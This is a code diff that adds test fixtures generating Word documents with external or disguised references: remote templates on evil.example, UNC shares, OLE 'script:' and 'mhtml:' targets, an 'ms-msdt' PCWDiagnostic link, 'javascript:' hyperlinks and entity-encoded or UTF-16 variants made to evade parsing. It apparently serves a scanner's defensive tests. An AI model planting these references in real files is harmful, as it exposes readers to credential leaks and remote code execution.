@@ -1,7 +1,95 @@
-import { documentOf, docx, docxWithBody } from "../kit/word.ts";
+import {
+  contentTypes,
+  documentOf,
+  docx,
+  docxRelated,
+  docxWithBody,
+  relationshipsOf,
+} from "../kit/word.ts";
+
+/** Word documents that lead or reach outside of themselves. @param evil the address they name */
+export function wordSources(evil: string): [string, Buffer][] {
+  const external = (type: string, target = evil, of = "document"): [string, Buffer] => [
+    `external ${type} ${target} of ${of}`,
+    docxRelated([{ type, target, isExternal: true }], of),
+  ];
+  return [
+    external("attachedTemplate", evil, "settings"),
+    external("attachedTemplate", "\\\\evil.example\\share\\t.dotm", "settings"),
+    external("attachedTemplate", "file://evil.example/share/t.dotm", "settings"),
+    external("attachedTemplate", "file:////evil.example/share/t.dotm", "settings"),
+    external("oleObject"),
+    external("oleObject", "mhtml:https://evil.example/a!x-usc:https://evil.example/a"),
+    external("oleObject", "script:https://evil.example/a.sct"),
+    external("image"),
+    external("image", "\\\\evil.example\\a.png", "header1"),
+    external("frame", evil, "webSettings"),
+    external("subDocument"),
+    external("aFChunk"),
+    external("mailMergeSource", "file:///C:/data.mdb", "settings"),
+    external("hyperlink", "javascript:alert(1)"),
+    external("hyperlink", "ms-msdt:/id PCWDiagnostic"),
+    external("hyperlink", "\\\\evil.example\\share"),
+    external("hyperlink", "file://evil.example/share"),
+    external("hyperlink", "search-ms:query=a"),
+    ["image inside that is outside", docxRelated([{ type: "image", target: evil }])],
+    ["picture by its address", docxWithBody(`<w:p><v:imagedata src="${evil}"/></w:p>`)],
+    external("attachedTemplate", "%5c%5cevil.example/share/t.dotm", "settings"),
+    external("attachedTemplate", "/&#9;/evil.example/share/t.dotm", "settings"),
+    external("hyperlink", "java&#9;script:alert(1)"),
+    ...besideRelationships(evil),
+    [
+      "drawing by its address",
+      docx([
+        typed("word/media/a.svg", "image/svg+xml"),
+        {
+          name: "word/media/a.svg",
+          content: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}"/></svg>`,
+        },
+      ]),
+    ],
+    [
+      "relationships in UTF-16",
+      docx([
+        utf16(
+          "word/_rels/document.xml.rels",
+          relationshipsOf([{ type: "image", target: evil, isExternal: true }]),
+        ),
+      ]),
+    ],
+    [
+      "relationships with another prefix",
+      docx([
+        {
+          name: "word/_rels/document.xml.rels",
+          content: relationshipsOf([{ type: "image", target: evil, isExternal: true }])
+            .replaceAll("<Relationship", "<p:Relationship")
+            .replaceAll("</Relationship", "</p:Relationship")
+            .replace("xmlns=", "xmlns:p="),
+        },
+      ]),
+    ],
+    [
+      "target written in numbers",
+      docxRelated([{ type: "image", target: "&#104;ttps://evil.example/a", isExternal: true }]),
+    ],
+    [
+      "mode written in numbers",
+      docx([
+        {
+          name: "word/_rels/document.xml.rels",
+          content: relationshipsOf([{ type: "image", target: "a", isExternal: true }]).replace(
+            "External",
+            "Exte&#x72;nal",
+          ),
+        },
+      ]),
+    ],
+  ];
+}
 
 /** Word documents that name what they show, or the names of a form letter, outside of relationships. */
-export function wordSources(url: string): [string, Buffer][] {
+function besideRelationships(url: string): [string, Buffer][] {
   return [
     ...drawn.map(([name, drawing]): [string, Buffer] => [name, docxWithBody(drawing(url))]),
     [
@@ -55,4 +143,16 @@ export function settingsWith(inside: string): Buffer {
     .replaceAll("w:document", "w:settings")
     .replace("<w:body></w:body>", inside);
   return docx([{ name: "word/settings.xml", content }]);
+}
+
+/** A list of content types with one more. */
+export function typed(name: string, type: string) {
+  return {
+    name: "[Content_Types].xml",
+    content: contentTypes(`<Override PartName="/${name}" ContentType="${type}"/>`),
+  };
+}
+
+export function utf16(name: string, text: string) {
+  return { name, content: Buffer.from(`\uFEFF${text}`, "utf16le") };
 }
